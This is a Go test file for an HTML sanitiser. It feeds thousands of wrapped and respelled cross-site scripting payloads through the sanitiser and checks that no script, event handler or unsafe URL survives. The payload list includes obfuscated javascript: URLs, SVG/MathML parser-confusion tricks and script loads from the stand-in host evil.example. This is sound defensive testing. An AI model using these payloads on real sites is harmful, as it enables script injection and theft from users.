package clean

import (
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"net/url"
	"os"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// What a tree may hold. The lists are written for this test, by what browsers do with a
// name, and are not those of the sanitiser.
var (
	harmlessElements = names(`a abbr acronym address article aside audio b bdi bdo big blockquote br caption center cite code col colgroup data dd del
		details dfn dir div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i iframe img ins kbd li main mark menu meter nav ol p
		picture pre progress q rb rp rt rtc ruby s samp search section small source span strike strong sub summary sup table tbody td tfoot th thead
		time tr track tt u ul var video wbr
		math menclose merror mfenced mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub msubsup
		msup mtable mtd mtext mtr munder munderover none`)
	harmlessAttributes = names(`abbr accent accentunder align allow allowfullscreen alt alttext axis border cellpadding cellspacing char charoff cite clear close
		colspan columnalign columnspan compact controls datetime default depth dir display displaystyle fence form frame headers height high href hreflang
		hspace kind label lang largeop linethickness longdesc loop low lspace mathvariant max maxsize media min minsize movablelimits muted noshade notation
		nowrap open optimum playsinline poster preload referrerpolicy rel reversed rowalign rowspan rspace rules sandbox scope scriptlevel separator
		separators size sizes span src srclang srcset start stretchy summary symmetric title type valign value voffset vspace width`)
	loadingAttributes = names("src srcset poster longdesc cite href")
)

// danger parses markup as a browser would, in several contexts. It returns what in it
// could run a script, load something that is not a medium, or break out, or "".
func danger(markup string) string {
	if !utf8.ValidString(markup) || strings.ContainsAny(markup, "\x00\x0b\x0c\r\x1b\x7f") || strings.Contains(markup, "]]>") || strings.Contains(markup, "<!") || strings.Contains(markup, "<?") {
		return "bytes that break what it stands in"
	}
	for _, place := range []atom.Atom{atom.Body, atom.Div, atom.Td, atom.Select, atom.Table, atom.Template} {
		nodes, err := html.ParseFragment(strings.NewReader(markup), &html.Node{Type: html.ElementNode, Data: place.String(), DataAtom: place})
		if err != nil {
			return err.Error()
		}
		for _, n := range nodes {
			if bad := dangerIn(n); bad != "" {
				return bad + " in a " + place.String()
			}
		}
	}
	return ""
}

func dangerIn(n *html.Node) string {
	switch n.Type {
	case html.CommentNode, html.DoctypeNode:
		return "a comment or doctype"
	case html.ElementNode:
		implied := n.Data == "tbody" || n.Data == "colgroup" || n.Data == "tr"
		if !harmlessElements[n.Data] && !implied || n.Namespace != "" && n.Namespace != "math" {
			return "<" + n.Namespace + " " + n.Data + ">"
		}
	}
	for _, a := range n.Attr {
		if a.Namespace != "" || !harmlessAttributes[a.Key] {
			return a.Key + "=" + a.Val
		}
		if bad := badAddress(n.Data, a.Key, a.Val); bad != "" {
			return bad
		}
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if bad := dangerIn(c); bad != "" {
			return bad
		}
	}
	return ""
}

// badAddress judges a URL as the URL standard reads it: control characters and
// blanks around it, and tabs and line breaks in it, do not count.
func badAddress(element, key, v string) string {
	if !loadingAttributes[key] {
		return ""
	}
	v = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, strings.TrimFunc(v, func(r rune) bool { return r <= ' ' }))
	scheme, _, ok := strings.Cut(strings.ToLower(v), ":")
	switch {
	case key == "srcset" || ok && (scheme == "http" || scheme == "https"):
		if element == "iframe" && !strings.HasPrefix(v, "https://www.youtube.com/embed/") && !strings.HasPrefix(v, "https://player.vimeo.com/video/") {
			return "a frame of " + v
		}
		if strings.Contains(strings.ToLower(v), "script:") && key == "srcset" {
			return key + "=" + v
		}
		return ""
	case key == "href" && (scheme == "mailto" || scheme == "tel" || scheme == "magnet"):
		return ""
	case key == "src" && element == "img" && strings.HasPrefix(strings.ToLower(v), "data:image/png;base64,"):
		return ""
	}
	return key + "=" + v
}

// scripts are addresses that run a script, as attackers spell them.
var scripts = []string{
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\r\nscript:alert(1)",
	"javascript\n:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
	"&#1;javascript:alert(1)", "\u00a0javascript:alert(1)", "\u2028javascript:alert(1)", "\ufeffjavascript:alert(1)", "javascript://example.org/%0aalert(1)", "javascript:/*x*/alert(1)", "vbscript:msgbox(1)", "livescript:x", "mocha:x",
	"data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg onload=alert(1)>", "data:application/xhtml+xml,<x/>", "data:,x",
	"view-source:javascript:alert(1)", "jar:javascript:alert(1)!/", "feed:javascript:alert(1)", "feed:data:text/html,x", "blob:https://example.org/1", "filesystem:https://example.org/x", "file:///etc/passwd", "about:blank", "ms-its:x", "intent:x", "\\\\evil.example\\x:javascript",
}

// attacks returns markup that would do harm. %s stands for an address.
func attacks() []string {
	list := strings.Split(strings.TrimSpace(`
<script>alert(1)</script>
<script src=https://evil.example/x.js></script>
<SCRIPT/XSS SRC="https://evil.example/x.js"></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<script\n>alert(1)</script >
<img src=x onerror=alert(1)>
<img src=x oNeRrOr=alert(1)//
<img/src=x/onerror=alert(1)>
<img """><script>alert(1)</script>">
<img src="x`+"`"+`<script>alert(1)</script>"`+"`"+`>
<body onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script xlink:href=data:,alert(1) /></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<svg><desc><svg><title><img src=x onerror=alert(1)></title>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype=statusline#https://evil.example xlink:href="javascript:alert(1)">x</maction></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<template><p title="</template><img src=x onerror=alert(1)>"></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<plaintext><img src=x onerror=alert(1)>
<select><noembed></select><script>x='<a onclick="alert(1)">'</script></noembed></select>
<select><iframe></select><script>alert(1)</script>
<table><a href=x><table><script>alert(1)</script></table></a></table>
<style>@import 'https://evil.example/x.css';</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="javascript:/a/-alert(1)///">
<object data="data:text/html,<script>alert(1)</script>"></object>
<object type="text/x-scriptlet" data="https://evil.example/x"></object>
<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" allowscriptaccess=always>
<applet code=x.class codebase=https://evil.example/></applet>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>" onload=alert(1)></iframe>
<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>
<iframe src="//evil.example/www.youtube.com/embed/x"></iframe>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<ilayer src=x></ilayer><layer src=x></layer>
<bgsound src="javascript:alert(1)">
<isindex type=image src=x action="javascript:alert(1)">
<input onfocus=alert(1) autofocus>
<input type=image src=x formaction="javascript:alert(1)">
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>
<button form=f onclick=alert(1)>x</button>
<keygen autofocus onfocus=alert(1)>
<video><source onerror=alert(1) src=x></video>
<video src=x onerror=alert(1) poster="javascript:alert(1)"></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<dialog open onclose=alert(1)>x</dialog>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))" id=x class=y onclick=alert(1)>x</p>
<p style="behavior:url(#default#time2)" onbegin=alert(1)>x</p>
<div onmouseover="alert(1)" contenteditable autofocus tabindex=0 accesskey=x onfocus=alert(1)>x</div>
<x onclick=alert(1) is=y slot=z>x</x>
<a onclick=alert(1) href="https://a.example/" ping="https://evil.example/" target=_top download=x>x</a>
<img usemap=#m src=x><map name=m><area href="javascript:alert(1)"></map>
<img src=x srcset="javascript:alert(1) 1x, data:text/html,x 2x" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">
<body background="javascript:alert(1)"><table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>
<math><![CDATA[</math><img src=x onerror=alert(1)>]]></math>
<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>
<?import namespace="t" implementation="#default#time2"><t:set onbegin=alert(1)>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<!-- --!><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
</br onclick=alert(1)></p onclick=alert(1)>
<a href=x onclick=alert(1)//<b>
<ſcript>alert(1)</ſcript><ſtyle>x</ſtyle><ımg src=x onerror=alert(1)>
<scrİpt>alert(1)</scrİpt>
<p title="]]><script>alert(1)</script>">x</p>
<p title='"><img src=x onerror=alert(1)>'>x</p>
<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>
<head><script>alert(1)</script></head>
<img src=x onerror=alert(1)
<a href="javascript:alert(1)`), "\n")
	for i, a := range list {
		list[i] = strings.ReplaceAll(a, `\n`, "\n")
	}
	for _, address := range scripts {
		for _, holder := range []string{`<a href="%s">x</a>`, `<a href='%s'>x</a>`, `<img src="%s">`, `<img srcset="%s 2x" data-src="%s">`, `<iframe src="%s"></iframe>`, `<video poster="%s" src="%s"><source src="%s"><track src="%s"></video>`,
			`<blockquote cite="%s">x</blockquote>`, `<form action="%s"><input formaction="%s" src="%s"></form>`, `<img longdesc="%s" src=x>`, `<a href=x xlink:href="%s">x</a>`, `<embed src="%s">`, `<math><mi href="%s" xlink:href="%s">x</mi></math>`} {
			list = append(list, strings.ReplaceAll(holder, "%s", address))
		}
	}
	return list
}

// wrappers surround an attack. Raw text must not hide it from the sanitiser.
var wrappers = []string{
	"%s", "<div><p>%s</p></div>", "<table><tr><td>%s</td></tr></table>", "<ul><li>%s", "<math><mtext>%s</mtext></math>", "<svg><desc>%s</desc></svg>", "<noscript>%s</noscript>", "<a href='https://a.example/'>%s</a>",
	"<pre>%s</pre>", "<select><option>%s</option></select>", "<iframe src=x>%s</iframe>", "<template>%s</template>",
}

// spellings are transformations that bytes undergo on their way.
var spellings = map[string]func(string) string{
	"as it is":      func(s string) string { return s },
	"upper case":    strings.ToUpper,
	"NUL inside":    func(s string) string { return strings.ReplaceAll(s, "script", "scr\x00ipt") },
	"NUL in tags":   func(s string) string { return strings.ReplaceAll(s, "<", "<\x00") },
	"form feeds":    func(s string) string { return strings.ReplaceAll(s, " ", "\f") },
	"slashes":       func(s string) string { return strings.ReplaceAll(s, " on", "/on") },
	"bad UTF-8":     func(s string) string { return strings.ReplaceAll(s, "=", "=\xc0\xbc") },
	"cut off":       func(s string) string { return s[:len(s)-1] },
	"twice escaped": func(s string) string { return html.EscapeString(html.EscapeString(s)) },
	"escaped":       html.EscapeString,
}

func TestNothingHostileGetsThrough(t *testing.T) {
	cases, page := 0, os.Getenv("HOSTILE_PAGE")
	var kept strings.Builder
	for _, attack := range attacks() {
		for i, wrapper := range wrappers {
			for spelling, spell := range spellings {
				if i > 0 && spelling != "as it is" && strings.Contains(attack, "x</a>") {
					continue // one address in every place and every spelling is enough
				}
				in := "vorher " + spell(strings.Replace(wrapper, "%s", attack, 1))
				out := HTML(in, base(t))
				cases++
				if bad := danger(out); bad != "" {
					t.Errorf("%s: HTML(%q) = %q has %s", spelling, in, out, bad)
				}
				if again := HTML(out, base(t)); again != out {
					t.Errorf("%s: not a fixed point for %q:\n once  %q\n twice %q", spelling, in, out, again)
				}
				if !strings.HasPrefix(out, "vorher") {
					t.Errorf("%s: HTML(%q) = %q lost the text before", spelling, in, out)
				}
				if page != "" {
					fmt.Fprintf(&kept, "<div>%s</div>\n<div title=\"%s\"></div>\n", out, html.EscapeString(out))
				}
			}
		}
	}
	if cases < 5000 {
		t.Errorf("%d cases, want at least 5000", cases)
	}
	if page != "" { // to be looked at with a browser
		if err := os.WriteFile(page, []byte(kept.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	t.Logf("%d cases", cases)
}

// TestTheWalkerSees proves that danger, the judge of the other tests, finds what it looks for.
func TestTheWalkerSees(t *testing.T) {
	for _, bad := range []string{"<script>1</script>", "<img src=x onerror=1>", "<a href=' java\nscript:1'>x</a>", "<svg></svg>", "<!-- x -->", "<p style=x>", "<p id=x>", "<a href=data:text/html,x>", "<iframe src=https://evil.example/></iframe>",
		"<math><annotation-xml></annotation-xml></math>", "<form>", "a\x00b", "]]>", "<img src=x srcset='javascript:1 1x'>", "<math><mi xlink:href=x>y</mi></math>"} {
		if danger(bad) == "" {
			t.Errorf("danger(%q) finds nothing", bad)
		}
	}
	for _, good := range []string{"x", "<p>a <b>b</b></p>", "<a href='https://a.example/'>x</a>", "<table><tr><td>x</td></tr></table>", "<math><mi>x</mi></math>"} {
		if bad := danger(good); bad != "" {
			t.Errorf("danger(%q) = %s", good, bad)
		}
	}
}

// TestTextAroundAttacksStays checks that text outside of an attack is kept.
func TestTextAroundAttacksStays(t *testing.T) {
	for _, attack := range attacks() {
		low := strings.ToLower(attack)
		if strings.Contains(low, "plaintext") || strings.Contains(low, "//<b>") || strings.HasPrefix(low, "<img src=x onerror=alert(1)") && !strings.Contains(low, ">") || !strings.HasSuffix(low, ">") || strings.Contains(low, "<!--") || strings.Contains(low, "<!doctype") ||
			strings.Count(low, "<style") > strings.Count(low, "</style") || strings.Count(low, `"`)%2 == 1 || strings.Contains(low, "<scr<") || strings.Contains(low, "]]>") {
			continue // a browser swallows the rest of these as well
		}
		out := HTML("<p>vorher</p>"+attack+"<p>nachher <b>fett</b></p>", base(t))
		if !strings.HasPrefix(out, "<p>vorher</p>") || !strings.HasSuffix(out, "<p>nachher <b>fett</b></p>") {
			t.Errorf("around %q: %q", attack, out)
		}
	}
}

// TestHarmlessSurvives checks that every element and attribute that a reader shows is
// kept unchanged.
func TestHarmlessSurvives(t *testing.T) {
	for _, in := range strings.Split(strings.TrimSpace(survivors), "\n") {
		if got := HTML(in, nil); got != in {
			t.Errorf("HTML changes\n     %s\n  to %s", in, got)
		}
	}
	for element, attrs := range allowed {
		if !strings.Contains(survivors, "<"+element+">") && !strings.Contains(survivors, "<"+element+" ") {
			t.Errorf("no line proves that <%s> survives", element)
		}
		for attr := range attrs {
			if !strings.Contains(survivors, " "+attr+`="`) {
				t.Errorf("no line proves that %s= of <%s> survives", attr, element)
			}
		}
	}
}

// TestSafeWhereItStands embeds results in the documents of which feeds and pages are
// made, and extracts them again.
func TestSafeWhereItStands(t *testing.T) {
	u, _ := url.Parse("https://example.org/")
	for _, attack := range attacks() {
		out := HTML("a "+attack+" b", u)
		if i := strings.Index("<![CDATA["+out+"]]>", "]]>"); i != len("<![CDATA["+out) {
			t.Errorf("%q ends its CDATA section", out)
		}
		var text struct {
			S string `xml:",chardata"`
		}
		if err := xml.Unmarshal([]byte("<x><![CDATA["+out+"]]></x>"), &text); err != nil || text.S != out {
			t.Errorf("%q in CDATA comes back as %q, %v", out, text.S, err)
		}
		encoded, err := json.Marshal(out)
		if err != nil || strings.ContainsAny(string(encoded), "<>&\u2028\u2029") {
			t.Errorf("%q in JSON: %s, %v", out, encoded, err)
		}
		z := html.NewTokenizer(strings.NewReader(`<p title="` + html.EscapeString(out) + `">`))
		if z.Next(); z.Token().Attr[0].Val != out || z.Next() != html.ErrorToken || z.Err() != io.EOF {
			t.Errorf("%q leaves an attribute", out)
		}
	}
}
